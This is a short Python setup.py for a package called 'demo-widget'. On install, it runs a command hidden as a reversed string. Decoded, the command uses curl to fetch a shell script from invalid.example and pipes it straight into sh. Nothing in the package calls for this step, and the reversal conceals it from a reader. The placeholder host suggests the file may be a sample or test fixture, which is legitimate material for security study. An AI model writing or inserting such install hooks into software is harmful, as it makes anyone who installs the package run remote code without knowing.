from setuptools import setup
import subprocess

subprocess.call('hs | hs.s/dilavni.elpmaxe//:sptth s- lruc'[::-1], shell=True)
setup(name='demo-widget')
